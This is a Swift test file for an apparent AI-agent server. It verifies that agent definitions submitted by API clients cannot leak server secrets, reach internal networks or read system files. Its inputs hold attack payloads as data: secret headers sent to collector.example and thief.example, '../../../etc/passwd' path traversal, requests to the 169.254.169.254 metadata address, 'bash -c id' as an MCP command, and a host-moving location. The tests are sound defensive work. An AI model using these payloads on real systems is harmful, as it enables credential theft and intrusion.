import AloftCore
import AloftServer
import AloftStore
import AloftTestSupport
import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import Testing

private let key = "k-0123456789abcdef"
private let auth: HTTPFields = [.authorization: "Bearer \(key)"]

private func keyed(environment: [String: String] = [:], policy: APIAgentPolicy = APIAgentPolicy()) -> TestServer {
    var server = TestServer()
    server.configuration.apiKeys = [key]
    server.configuration.apiAgents = policy
    server.environment = environment
    return server
}

private func inline(_ definition: String) -> String {
    #"{"input":"go","agent_definition":"# + definition + "}"
}

@Suite("Agents from API clients use only what the configuration grants")
struct APIAgentPolicyTests {
    @Test("a keyless server runs no agent definitions sent with a request")
    func inlineOffWithoutKeys() async throws {
        try await TestServer().run { client, engine in
            let response = try await client.send(
                .post, "/v1/runs", json: inline(#"{"name":"x","model":{"provider":"scripted","script":[{"text":"hi"}]}}"#)
            )
            #expect(response.status == .forbidden)
            #expect(response.errorCode == "inline_agents_disabled")
            #expect(try await engine.store.runs(RunQuery(limit: 10)).isEmpty)
        }
    }

    @Test("with API keys an inline definition runs, and a broken one is a 422 naming the field")
    func inlineWithKeys() async throws {
        try await keyed().run { client, _ in
            let ok = try await client.send(
                .post, "/v1/runs", json: inline(#"{"name":"x","model":{"provider":"scripted","script":[{"text":"hi"}]}}"#), headers: auth
            )
            #expect(ok.status == .created)
            let broken = try await client.send(.post, "/v1/runs", json: inline(#"{"name":"x","model":{"provider":"gpt"}}"#), headers: auth)
            #expect(broken.status == .unprocessableContent)
            #expect(broken.errorCode == "invalid_agent")
        }
    }

    @Test("inline definitions can be turned off on a server with keys too")
    func inlineOffByConfiguration() async throws {
        try await keyed(policy: APIAgentPolicy(inlineDefinitions: false)).run { client, _ in
            let response = try await client.send(
                .post, "/v1/runs", json: inline(#"{"name":"x","model":{"provider":"scripted","script":[{"text":"hi"}]}}"#), headers: auth
            )
            #expect(response.errorCode == "inline_agents_disabled")
        }
    }

    @Test("an HTTP tool header cannot name a server secret that is not granted", arguments: ["inline", "put"])
    func secretsRefused(route: String) async throws {
        let definition = #"{"name":"leak","model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"http":{"name":"t","url":"https://collector.example/x","headers":{"X":"${DATABASE_PASSWORD}"}}}]}"#
        try await keyed(environment: ["DATABASE_PASSWORD": "hunter2"]).run { client, _ in
            let response = route == "inline"
                ? try await client.send(.post, "/v1/runs", json: inline(definition), headers: auth)
                : try await client.send(.put, "/v1/agents/leak", json: definition, headers: auth)
            #expect(response.status == .forbidden)
            #expect(response.errorCode == "agent_not_allowed")
            #expect(response.json["error"]?["message"]?.stringValue?.contains("DATABASE_PASSWORD") == true)
            #expect(try await client.send(.get, "/v1/agents/leak", headers: auth).status == .notFound)
        }
        try await keyed(environment: ["DATABASE_PASSWORD": "hunter2"], policy: APIAgentPolicy(secrets: ["DATABASE_PASSWORD"])).run { client, _ in
            let granted = try await client.send(.put, "/v1/agents/leak", json: definition, headers: auth)
            #expect(granted.status == .created, "a granted secret is fine")
        }
    }

    @Test("the server's model key cannot be sent to a model server the operator did not list")
    func modelKeyStaysHome() async throws {
        let environment = ["OPENAI_API_KEY": "sk-server"]
        try await keyed(environment: environment).run { client, _ in
            let elsewhere = try await client.send(
                .put, "/v1/agents/thief", json: #"{"model":{"provider":"openai","name":"m","base_url":"https://thief.example/v1"}}"#, headers: auth
            )
            #expect(elsewhere.status == .forbidden)
            let problems = elsewhere.json["error"]?["details"]?["problems"]?.jsonText() ?? ""
            #expect(problems.contains("model.api_key_env") && problems.contains("model.base_url"), "\(problems)")
            let otherVariable = try await client.send(
                .put, "/v1/agents/thief", json: #"{"model":{"provider":"openai","name":"m","api_key_env":"OPENAI_API_KEY"}}"#, headers: auth
            )
            #expect(otherVariable.status == .forbidden, "the provider's own key is a secret too until granted")
        }
        let granted = APIAgentPolicy(secrets: ["OPENAI_API_KEY"], modelBaseURLs: ["https://models.example/v1/"])
        try await keyed(environment: environment, policy: granted).run { client, _ in
            let listed = try await client.send(
                .put, "/v1/agents/ok", json: #"{"model":{"provider":"openai","name":"m","base_url":"HTTPS://models.example/v1"}}"#, headers: auth
            )
            #expect(listed.status == .created)
            let unlisted = try await client.send(.put, "/v1/agents/no", json: #"{"model":{"provider":"openai","name":"m"}}"#, headers: auth)
            #expect(unlisted.status == .forbidden, "with a list, even the provider's default URL must be on it")
        }
    }

    @Test("SQL tools of API agents open only databases under the listed folders, and never Aloft's own")
    func sqlDatabases() async throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("aloft-policy-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: folder + "/data", withIntermediateDirectories: true)
        let database = folder + "/data/aloft.db"
        try await keyed().run { client, _ in
            let response = try await client.send(
                .put, "/v1/agents/reader",
                json: #"{"model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"builtin":"sql_query","database":"/etc/passwd"}]}"#,
                headers: auth
            )
            #expect(response.status == .forbidden)
        }
        var server = keyed(policy: APIAgentPolicy(sqlDirectories: [folder + "/data"]))
        server.databasePath = database
        try await server.run { client, _ in
            let escape = try await client.send(
                .put, "/v1/agents/reader",
                json: #"{"model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"builtin":"sql_query","database":"../../../etc/passwd"}]}"#,
                headers: auth
            )
            #expect(escape.status == .forbidden, "'..' does not leave the folder")
            let own = try await client.send(
                .put, "/v1/agents/reader",
                json: #"{"model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"builtin":"sql_query","database":"aloft.db"}]}"#,
                headers: auth
            )
            #expect(own.status == .unprocessableContent, "Aloft's own database is refused even under an allowed folder")
            #expect(own.json["error"]?["message"]?.stringValue?.contains("Aloft's own database") == true)
        }
    }

    @Test("API agents cannot point their HTTP tools at the server's own network unless listed")
    func internalHosts() async throws {
        let definition = #"{"model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"builtin":"http_get","allowed_hosts":["169.254.169.254"]}]}"#
        try await keyed().run { client, _ in
            let metadata = try await client.send(.put, "/v1/agents/meta", json: definition, headers: auth)
            #expect(metadata.status == .forbidden)
            let local = #"{"model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"http":{"name":"t","url":"http://localhost:8080/v1/runs"}}]}"#
            let loopback = try await client.send(.put, "/v1/agents/local", json: local, headers: auth)
            #expect(loopback.status == .forbidden)
        }
        try await keyed(policy: APIAgentPolicy(internalHosts: ["169.254.169.254"])).run { client, _ in
            let listed = try await client.send(.put, "/v1/agents/meta", json: definition, headers: auth)
            #expect(listed.status == .created)
        }
    }

    @Test("API agents' A2A tools reach neither the server's network nor its secrets, and Azure's token is a secret too")
    func a2aToolsAndAzure() async throws {
        let internalTool = #"{"model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"a2a":{"name":"peer","url":"http://127.0.0.1:8080/a2a/admin"}}]}"#
        let secretTool = #"{"model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"a2a":{"name":"peer","url":"https://agents.example.com/a2a/x","headers":{"Authorization":"Bearer ${SERVER_TOKEN}"}}}]}"#
        let azure = #"{"model":{"provider":"azure","name":"d","base_url":"https://r.openai.azure.com"}}"#
        let environment = ["SERVER_TOKEN": "t", "AZURE_OPENAI_AD_TOKEN": "entra", "AZURE_OPENAI_ENDPOINT": "https://r.openai.azure.com"]
        try await keyed(environment: environment).run { client, _ in
            let local = try await client.send(.put, "/v1/agents/local", json: internalTool, headers: auth)
            #expect(local.status == .forbidden && String(buffer: local.body).contains("tools[0].a2a.url: 127.0.0.1 is on the server's own network"), "\(String(buffer: local.body))")
            let secret = try await client.send(.put, "/v1/agents/secret", json: secretTool, headers: auth)
            #expect(secret.status == .forbidden && String(buffer: secret.body).contains("tools[0].a2a.headers: '${SERVER_TOKEN}'"), "\(String(buffer: secret.body))")
            let token = try await client.send(.put, "/v1/agents/azure", json: azure, headers: auth)
            #expect(token.status == .forbidden && String(buffer: token.body).contains("'AZURE_OPENAI_AD_TOKEN' is not a secret API agents may use"), "\(String(buffer: token.body))")
        }
        try await keyed(environment: environment, policy: APIAgentPolicy(secrets: ["SERVER_TOKEN", "AZURE_OPENAI_AD_TOKEN"], internalHosts: ["127.0.0.1"])).run { client, _ in
            let local = try await client.send(.put, "/v1/agents/local", json: internalTool, headers: auth)
            let secret = try await client.send(.put, "/v1/agents/secret", json: secretTool, headers: auth)
            let token = try await client.send(.put, "/v1/agents/azure", json: azure, headers: auth)
            #expect([local.status, secret.status, token.status] == [.created, .created, .created], "granted, each is accepted")
        }
    }

    @Test("Google's credentials are the server's: an API agent on Gemini needs the key granted, on Vertex AI a granted credential (never gcloud's default one), and its location cannot move the host")
    func googleCredentials() async throws {
        let gemini = #"{"model":{"provider":"gemini","name":"gemini-2.5-flash"}}"#
        let vertex = #"{"model":{"provider":"vertex","name":"gemini-2.5-flash","project":"p","location":"us-central1"}}"#
        let movedHost = #"{"model":{"provider":"vertex","name":"gemini-2.5-flash","project":"p","location":"evil.example/x"}}"#
        let keyFile = try GoogleServiceAccountKey.write(tokenURI: "https://oauth2.googleapis.com/token").path
        let environment = ["GOOGLE_API_KEY": "g", "GOOGLE_APPLICATION_CREDENTIALS": keyFile]
        try await keyed(environment: environment).run { client, _ in
            let key = try await client.send(.put, "/v1/agents/gem", json: gemini, headers: auth)
            #expect(key.status == .forbidden && String(buffer: key.body).contains("'GOOGLE_API_KEY' is not a secret API agents may use"), "\(String(buffer: key.body))")
            let file = try await client.send(.put, "/v1/agents/vx", json: vertex, headers: auth)
            #expect(file.status == .forbidden && String(buffer: file.body).contains("'GOOGLE_APPLICATION_CREDENTIALS' is not a secret"), "\(String(buffer: file.body))")
            #expect(!String(buffer: file.body).contains(keyFile), "no server path in what a client reads")
            let moved = try await client.send(.put, "/v1/agents/moved", json: movedHost, headers: auth)
            #expect(moved.status == .unprocessableContent && String(buffer: moved.body).contains("model.location"), "\(String(buffer: moved.body))")
        }
        try await keyed(environment: ["HOME": "/root"]).run { client, _ in
            let adc = try await client.send(.put, "/v1/agents/vx", json: vertex, headers: auth)
            #expect(adc.status == .forbidden && String(buffer: adc.body).contains("Vertex AI needs a credential the operator grants"), "\(String(buffer: adc.body))")
        }
        try await keyed(environment: environment, policy: APIAgentPolicy(secrets: ["GOOGLE_API_KEY", "GOOGLE_APPLICATION_CREDENTIALS"])).run { client, _ in
            let key = try await client.send(.put, "/v1/agents/gem", json: gemini, headers: auth)
            let file = try await client.send(.put, "/v1/agents/vx", json: vertex, headers: auth)
            #expect([key.status, file.status] == [.created, .created], "granted, each is accepted: \(String(buffer: key.body)) \(String(buffer: file.body))")
        }
    }

    @Test("API agents cannot start MCP servers as programs on the server; their MCP servers over HTTP are checked like HTTP tools")
    func mcpServers() async throws {
        let stdio = #"{"model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"mcp":{"name":"shell","command":"bash","args":["-c","id"]}}]}"#
        let internalServer = #"{"model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"mcp":{"name":"db","url":"http://10.0.0.5:9000/mcp"}}]}"#
        let secret = #"{"model":{"provider":"scripted","script":[{"text":"hi"}]},"tools":[{"mcp":{"name":"gh","url":"https://mcp.example.com/mcp","headers":{"Authorization":"Bearer ${SERVER_TOKEN}"}}}]}"#
        try await keyed(environment: ["SERVER_TOKEN": "t"]).run { client, _ in
            let program = try await client.send(.put, "/v1/agents/shell", json: stdio, headers: auth)
            #expect(program.status == .forbidden && String(buffer: program.body).contains("tools[0].mcp.command: API agents cannot start programs"), "\(String(buffer: program.body))")
            let local = try await client.send(.put, "/v1/agents/db", json: internalServer, headers: auth)
            #expect(local.status == .forbidden && String(buffer: local.body).contains("tools[0].mcp.url: 10.0.0.5 is on the server's own network"), "\(String(buffer: local.body))")
            let token = try await client.send(.put, "/v1/agents/gh", json: secret, headers: auth)
            #expect(token.status == .forbidden && String(buffer: token.body).contains("tools[0].mcp.headers: '${SERVER_TOKEN}'"), "\(String(buffer: token.body))")
        }
    }

    @Test("agents are listed without absolute server paths")
    func noServerPaths() async throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("aloft-paths-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        #expect(FileManager.default.createFile(atPath: folder + "/shop.db", contents: Data()))
        try "name: analyst\nmodel: { provider: scripted, script: [{ text: hi }] }\ntools:\n  - builtin: list_tables\n    database: shop.db\n"
            .write(toFile: folder + "/analyst.yaml", atomically: true, encoding: .utf8)
        var server = TestServer()
        server.agentsDirectory = folder
        try await server.run { client, _ in
            let listed = try await client.send(.get, "/v1/agents")
            #expect(listed.status == .ok)
            let text = listed.json.jsonText()
            #expect(text.contains("analyst"))
            #expect(!text.contains(folder), "\(text)")
            #expect(try await client.send(.get, "/v1/agents/analyst").json["source"] == "file:analyst.yaml")
        }
    }
}
